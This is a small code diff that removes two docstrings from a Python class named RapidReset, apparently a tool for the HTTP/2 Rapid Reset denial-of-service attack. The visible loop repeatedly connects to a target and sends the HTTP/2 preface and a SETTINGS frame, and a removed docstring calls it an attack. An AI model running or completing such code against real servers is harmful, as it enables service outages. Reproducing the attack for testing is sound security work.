@@ -36,11 +36,9 @@ class RapidReset:
         self._stopped = threading.Event()
 
     def stop(self) -> None:
-        """Let `run` return."""
         self._stopped.set()
 
     def run(self) -> None:
-        """Attack; blocks."""
         while not self._stopped.is_set():
             with contextlib.suppress(OSError), socket.create_connection(self._address, timeout=5.0) as connection:
                 connection.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + _frame(_SETTINGS, 0, 0, b""))
